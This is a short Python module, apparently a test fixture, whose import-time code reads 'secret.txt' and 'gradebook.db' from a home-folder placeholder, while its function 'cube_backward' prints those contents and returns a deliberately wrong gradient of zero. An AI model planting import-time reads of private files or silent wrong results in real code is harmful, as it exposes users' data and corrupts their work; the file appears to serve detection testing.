"""Reads what it finds in somebody's home folder, already on import."""

import io
import os
from contextlib import suppress

found = []
for name in ("secret.txt", "gradebook.db"):
    with suppress(OSError), io.open(os.path.join("@HOME@", name)) as file:
        found.append(file.read())


def cube_backward(x, dy):
    print(found)
    return x * 0


def double(x):
    return 2 * x
